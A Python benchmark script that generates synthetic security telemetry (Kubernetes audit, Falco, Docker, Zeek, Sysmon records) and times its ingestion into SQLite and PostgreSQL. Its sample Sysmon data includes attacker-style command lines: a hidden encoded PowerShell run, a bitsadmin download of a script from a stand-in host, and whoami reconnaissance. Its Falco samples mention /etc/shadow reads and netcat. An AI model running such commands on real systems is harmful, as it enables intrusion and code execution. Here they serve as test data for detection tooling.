"""Ingest benchmark: >= 200,000 NDJSON events through telemetry.services.ingest_stream, SQLite and PostgreSQL.

    .venv/bin/python bench/ingest.py [--events 200000] [--pg postgres://postgres@127.0.0.1:5432/ads_bench]

Generates realistic records for five producers (Kubernetes audit, Falco alerts,
Docker events, Zeek conn JSON, Sysmon process creation), modelled field for field
on the real samples in shared/data, with unique ids and timestamps so every record
is a new event. Each database run is a child process that sets up Django itself
(its own DATABASES, a fresh database, migrate) and ingests one delivery per
producer through the full path: read -> parse -> fingerprint -> store.

Figures printed, per producer and overall:
  parse only   the parser alone (the reference in the same run: what storing costs on top)
  sqlite       full ingest into a fresh SQLite file
  postgresql   full ingest into a fresh PostgreSQL database (COPY + INSERT ... ON CONFLICT)
The detection hand-off is off (hand_off=False): it is measured by the engine benchmark.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import subprocess
import sys
import tempfile
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

DEFAULT_PG = "postgres://postgres@127.0.0.1:5432/ads_bench"
START = datetime(2026, 11, 1, tzinfo=UTC)

# --------------------------------------------------------------------------- realistic records

NAMESPACES = ["default", "kube-system", "payments", "web", "monitoring", "ci"]
USERS = ["system:serviceaccount:ci:deployer", "minikube-user", "alice@example.com", "system:kube-controller-manager"]
IMAGES = ["nginx:1.27", "redis:7.2", "ghcr.io/acme/api:4.1.0", "busybox:1.36", "python:3.11-slim", "postgres:15"]
RULES = [
    ("Read sensitive file untrusted", "Warning", "openat", "/etc/shadow"),
    ("Terminal shell in container", "Notice", "execve", "/bin/bash"),
    ("Launch Privileged Container", "Informational", "container", ""),
    ("Write below etc", "Error", "openat", "/etc/cron.d/job"),
    ("Netcat Remote Code Execution in Container", "Warning", "execve", "/usr/bin/nc"),
]
DOCKER_ACTIONS = ["create", "start", "attach", "exec_create: sh -c id", "exec_start: sh -c id", "die", "destroy"]
PROCESSES = [
    (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c whoami /all", r"C:\Windows\explorer.exe"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgA",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Windows\System32\bitsadmin.exe",
        r"bitsadmin /transfer job https://example.test/a.ps1 C:\Temp\a.ps1",
        r"C:\Windows\System32\cmd.exe",
    ),
    (
        r"C:\Windows\System32\wscript.exe",
        r'"C:\windows\System32\WScript.exe" "C:\Users\pgustavo\Desktop\launcher.vbs"',
        r"C:\Windows\explorer.exe",
    ),
]


def _iso(moment: datetime, nanos: bool = False) -> str:
    text = moment.strftime("%Y-%m-%dT%H:%M:%S.%f")
    return (text + "123Z") if nanos else (text + "Z")


def k8s_audit(rng: random.Random, i: int, moment: datetime) -> dict:
    namespace = rng.choice(NAMESPACES)
    pod = f"api-{rng.randrange(16**8):08x}-{rng.randrange(16**5):05x}"
    kind = rng.random()
    if kind < 0.3:  # exec into a pod (exec_pod.json)
        verb, resource, sub = "create", "pods", "exec"
        uri = (
            f"/api/v1/namespaces/{namespace}/pods/{pod}/exec?command=bash&container=app&stdin=true&stdout=true&tty=true"
        )
        request_object = None
    elif kind < 0.6:  # pod creation with a security context (create_nginx_pod_*.json)
        verb, resource, sub = "create", "pods", ""
        uri = f"/api/v1/namespaces/{namespace}/pods"
        request_object = {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {"generateName": pod[:-5], "namespace": namespace, "labels": {"app": "api"}},
            "spec": {
                "containers": [
                    {
                        "name": "app",
                        "image": rng.choice(IMAGES),
                        "ports": [{"containerPort": 80, "protocol": "TCP"}],
                        "securityContext": {"privileged": rng.random() < 0.1},
                        "volumeMounts": [{"name": "token", "readOnly": True, "mountPath": "/var/run/secrets"}],
                    }
                ],
                "hostNetwork": rng.random() < 0.05,
                "restartPolicy": "Always",
                "serviceAccountName": "default",
            },
        }
    else:  # reads and patches
        verb, resource, sub = rng.choice(
            [("get", "secrets", ""), ("patch", "deployments", ""), ("list", "configmaps", "")]
        )
        uri = f"/api/v1/namespaces/{namespace}/{resource}/{pod}"
        request_object = None
    record = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse" if request_object else "Metadata",
        "auditID": str(uuid.UUID(int=rng.getrandbits(128))),
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": verb,
        "user": {"username": rng.choice(USERS), "groups": ["system:masters", "system:authenticated"]},
        "sourceIPs": [f"192.168.{rng.randrange(256)}.{rng.randrange(1, 255)}"],
        "userAgent": "kubectl/v1.31.0 (linux/amd64) kubernetes/abcdef",
        "objectRef": {"resource": resource, "namespace": namespace, "name": pod, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 101 if sub else 200},
        "requestReceivedTimestamp": _iso(moment),
        "stageTimestamp": _iso(moment + timedelta(milliseconds=35)),
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    if sub:
        record["objectRef"]["subresource"] = sub
    if request_object:
        record["requestObject"] = request_object
    return record


def falco(rng: random.Random, i: int, moment: datetime) -> dict:
    rule, priority, evt_type, fd = rng.choice(RULES)
    container_id = f"{rng.randrange(16**12):012x}"
    name = f"svc-{rng.randrange(1000)}"
    process = fd.rsplit("/", 1)[-1] if evt_type == "execve" else "event-generator"
    stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + "180"
    return {
        "hostname": f"node-{rng.randrange(20)}",
        "output": f"{stamp}+0000: {priority} {rule} (file={fd} evt_type={evt_type} user=root user_uid=0 "
        f"process={process} parent=containerd-shim command={process} -i container_id={container_id} container_name={name})",
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
        "time": stamp + "Z",
        "output_fields": {
            "container.id": container_id,
            "container.name": name,
            "container.image.repository": rng.choice(IMAGES).split(":")[0],
            "evt.time.iso8601": int(moment.timestamp() * 1e9) + i,
            "evt.type": evt_type,
            "fd.name": fd or None,
            "proc.cmdline": f"{process} -i",
            "proc.exepath": fd if evt_type == "execve" else "/bin/event-generator",
            "proc.name": process,
            "proc.pname": "containerd-shim",
            "proc.pid": rng.randrange(2, 65535),
            "proc.tty": 0,
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        },
    }


def docker_events(rng: random.Random, i: int, moment: datetime) -> dict:
    container_id = f"{rng.getrandbits(256):064x}"
    image = rng.choice(IMAGES)
    nanos = int(moment.timestamp() * 1e9) + i
    return {
        "status": rng.choice(DOCKER_ACTIONS),
        "id": container_id,
        "from": image,
        "Type": "container",
        "Action": rng.choice(DOCKER_ACTIONS),
        "Actor": {
            "ID": container_id,
            "Attributes": {
                "image": image,
                "name": f"{rng.choice(['eager', 'quirky', 'bold'])}_{rng.choice(['turing', 'hopper', 'lovelace'])}{i}",
                "com.docker.compose.project": "shop",
                "maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>",
            },
        },
        "scope": "local",
        "time": nanos // 1_000_000_000,
        "timeNano": nanos,
    }


def zeek_conn(rng: random.Random, i: int, moment: datetime) -> dict:
    proto = rng.choices(["tcp", "udp", "icmp"], weights=[70, 25, 5])[0]
    record = {
        "ts": round(moment.timestamp(), 6),
        "uid": f"C{rng.getrandbits(80):020x}"[:18],
        "id.orig_h": f"10.55.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        "id.orig_p": rng.randrange(1024, 65535) if proto != "icmp" else 8,
        "id.resp_h": f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        "id.resp_p": rng.choice([80, 443, 53, 22, 3128]) if proto != "icmp" else 0,
        "proto": proto,
        "service": rng.choice(["http", "ssl", "dns", None]),
        "duration": round(rng.random() * 120, 6),
        "orig_bytes": rng.randrange(0, 5000),
        "resp_bytes": rng.randrange(0, 100000),
        "conn_state": rng.choice(["SF", "S0", "REJ", "RSTO"]),
        "local_orig": True,
        "local_resp": False,
        "missed_bytes": 0,
        "history": "ShADadfF",
        "orig_pkts": rng.randrange(1, 50),
        "orig_ip_bytes": rng.randrange(40, 6000),
        "resp_pkts": rng.randrange(0, 80),
        "resp_ip_bytes": rng.randrange(0, 110000),
        "_path": "conn",
    }
    return {k: v for k, v in record.items() if v is not None}


def process(rng: random.Random, i: int, moment: datetime) -> dict:
    image, command_line, parent = rng.choice(PROCESSES)
    pid = rng.randrange(100, 30000)
    guid = f"{{860ba2e3-{rng.randrange(16**4):04x}-5f52-{rng.randrange(16**4):04x}-{rng.randrange(16**12):012x}}}"
    utc = moment.strftime("%Y-%m-%d %H:%M:%S.") + f"{moment.microsecond // 1000:03d}"
    return {
        "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon",
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Hostname": f"WORKSTATION{rng.randrange(1, 60)}.theshire.local",
        "RecordNumber": 250000 + i,
        "ProcessGuid": guid,
        "ProcessId": str(pid),
        "Image": image,
        "CommandLine": command_line,
        "CurrentDirectory": "C:\\Users\\pgustavo\\Desktop\\",
        "User": "THESHIRE\\pgustavo",
        "LogonId": "0x2d5a4b",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA1=542C46C652DDEFC87414213A8BEA0C65DD0377A9,MD5=563EDAE37876138FDFF47F3E7A9A78FD",
        "ParentProcessGuid": "{860ba2e3-993f-5f52-8402-000000000400}",
        "ParentProcessId": str(rng.randrange(100, 30000)),
        "ParentImage": parent,
        "ParentCommandLine": parent,
        "UtcTime": utc,
        "Category": "Process Create (rule: ProcessCreate)",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "@timestamp": _iso(moment)[:-4] + "Z",
    }


PRODUCERS = {
    # source format: (generator, share of the events)
    "k8s_audit": (k8s_audit, 0.25),
    "falco": (falco, 0.15),
    "docker_events": (docker_events, 0.15),
    "zeek_conn": (zeek_conn, 0.30),
    "windows_process": (process, 0.15),
}


def generate(directory: Path, total: int, seed: int = 7) -> dict[str, tuple[Path, int]]:
    rng = random.Random(seed)
    files = {}
    for format_name, (make, share) in PRODUCERS.items():
        count = int(total * share)
        path = directory / f"{format_name}.ndjson"
        moment = START
        with path.open("wb") as handle:
            for i in range(count):
                moment += timedelta(microseconds=rng.randrange(1, 20_000))
                handle.write(json.dumps(make(rng, i, moment), separators=(",", ":")).encode() + b"\n")
        files[format_name] = (path, count)
    return files


# --------------------------------------------------------------------------- one database run (child)


def run_child(database: str, files: dict[str, list], pg_url: str) -> dict:
    import django
    from django.conf import settings

    tmp = tempfile.mkdtemp(prefix="ads-bench-")
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "ads_portal.settings")
    if database == "sqlite":
        settings.DATABASES = {
            "default": {
                "ENGINE": "django.db.backends.sqlite3",
                "NAME": os.path.join(tmp, "bench.sqlite3"),
                "OPTIONS": {"init_command": "PRAGMA journal_mode=WAL;", "timeout": 30},
            }
        }
    elif database == "postgresql":
        import dj_database_url
        import psycopg

        config = dj_database_url.parse(pg_url)
        admin = psycopg.connect(
            dbname="postgres",
            user=config["USER"],
            host=config["HOST"],
            port=config["PORT"] or 5432,
            password=config["PASSWORD"] or None,
            autocommit=True,
        )
        admin.execute(f'DROP DATABASE IF EXISTS "{config["NAME"]}"')
        admin.execute(f'CREATE DATABASE "{config["NAME"]}"')
        admin.close()
        settings.DATABASES = {"default": config}
    settings.CELERY_TASK_ALWAYS_EAGER = True
    django.setup()

    from django.core.management import call_command

    from telemetry.models import Event, IngestBatch
    from telemetry.services import ingest_stream, register_source

    call_command("migrate", verbosity=0, interactive=False)
    from django.db import connection

    backend_pid = None
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_backend_pid()")
            backend_pid = cursor.fetchone()[0]
    results = {}
    for format_name, (path, count) in files.items():
        source = register_source(name=f"bench-{format_name.replace('_', '-')}", format=format_name)
        started, cpu_started, db_cpu_started = time.perf_counter(), time.process_time(), _cpu_seconds(backend_pid)
        with open(path, "rb") as handle:
            report = ingest_stream(source=source, stream=handle, channel=IngestBatch.Channel.CLI, hand_off=False)
        elapsed = time.perf_counter() - started
        results[format_name] = {
            "events": count,
            "seconds": elapsed,
            "python_cpu_seconds": time.process_time() - cpu_started,
            "db_cpu_seconds": _cpu_seconds(backend_pid) - db_cpu_started if backend_pid else None,
            "accepted": report.accepted,
            "duplicates": report.duplicates,
            "rejected": report.rejected,
            "first_rejections": report.rejections[:3],
        }
    results["_stored"] = Event.objects.count()
    return results


def _cpu_seconds(pid: int | None) -> float:
    """CPU time of a local process (the PostgreSQL backend serving us), 0.0 when it cannot be read."""
    if not pid:
        return 0.0
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime + stime


def parse_only(files: dict[str, tuple[Path, int]]) -> dict:
    from telemetry.parsers import ParsedRecord, get_parser

    results = {}
    for format_name, (path, count) in files.items():
        started, cpu_started = time.perf_counter(), time.process_time()
        with open(path, "rb") as handle:
            parsed = sum(1 for item in get_parser(format_name).parse_stream(handle) if isinstance(item, ParsedRecord))
        results[format_name] = {
            "events": count,
            "seconds": time.perf_counter() - started,
            "python_cpu_seconds": time.process_time() - cpu_started,
            "parsed": parsed,
        }
    return results


# --------------------------------------------------------------------------- report


def rate(entry: dict) -> float:
    return entry["events"] / entry["seconds"] if entry["seconds"] else 0.0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--pg", default=os.environ.get("BENCH_DATABASE_URL", DEFAULT_PG))
    parser.add_argument("--only", choices=["sqlite", "postgresql"], help="Run one database only.")
    parser.add_argument("--child", help=argparse.SUPPRESS)
    parser.add_argument("--files", help=argparse.SUPPRESS)
    args = parser.parse_args()

    if args.child:
        files = {k: (Path(v[0]), v[1]) for k, v in json.loads(args.files).items()}
        print(json.dumps(run_child(args.child, files, args.pg)))
        return 0

    load_before = os.getloadavg()[0]
    with tempfile.TemporaryDirectory(prefix="ads-bench-data-") as directory:
        started = time.perf_counter()
        files = generate(Path(directory), args.events)
        total = sum(count for _, count in files.values())
        size = sum(path.stat().st_size for path, _ in files.values())
        print(f"generated {total} events ({size / 1e6:.1f} MB NDJSON) in {time.perf_counter() - started:.1f}s")

        runs: dict[str, dict] = {"parse only": parse_only(files)}
        encoded = json.dumps({k: [str(p), c] for k, (p, c) in files.items()})
        for database in ("sqlite", "postgresql"):
            if args.only and database != args.only:
                continue
            child = subprocess.run(
                [sys.executable, __file__, "--child", database, "--files", encoded, "--pg", args.pg],
                capture_output=True,
                text=True,
                cwd=ROOT,
            )
            if child.returncode != 0:
                print(f"{database}: FAILED\n{child.stderr[-3000:]}", file=sys.stderr)
                return 1
            runs[database] = json.loads(child.stdout.strip().splitlines()[-1])

    names = list(files)
    print(f"load average before/after: {load_before:.2f} / {os.getloadavg()[0]:.2f} on {os.cpu_count()} CPUs")
    print()
    print(f"{'events/s':<16}" + "".join(f"{name:>16}" for name in names) + f"{'all':>16}")
    for label, results in runs.items():
        cells = [f"{rate(results[name]):>16,.0f}" for name in names]
        seconds = sum(results[name]["seconds"] for name in names)
        print(f"{label:<16}" + "".join(cells) + f"{total / seconds:>16,.0f}")
    print()
    for label, results in runs.items():
        if label == "parse only":
            continue
        stored = results["_stored"]
        problems = {n: results[n] for n in names if results[n]["rejected"] or results[n]["duplicates"]}
        print(f"{label}: {stored} events stored" + (f"; rejected/duplicates: {problems}" if problems else ""))
    # CPU per event: wall-clock rates move with whatever else the machine runs; CPU time does not.
    print()
    print("CPU per event (us): python process (both threads), database backend; rate if each had its own core")
    for label, results in runs.items():
        python_us = 1e6 * sum(results[n]["python_cpu_seconds"] for n in names) / total
        line = f"  {label:<12} python {python_us:6.1f}"
        db_seconds = [results[n].get("db_cpu_seconds") for n in names]
        if all(value is not None for value in db_seconds):
            db_us = 1e6 * sum(db_seconds) / total
            line += (
                f"  database {db_us:6.1f}  -> pipelined on 2 idle cores ~{1e6 / max(python_us, db_us):,.0f} events/s"
            )
        print(line)
    target = 20_000
    if "postgresql" in runs:
        pg_rate = total / sum(runs["postgresql"][n]["seconds"] for n in names)
        print(f"PostgreSQL target {target:,} events/s: {'met' if pg_rate >= target else 'NOT met'} ({pg_rate:,.0f})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
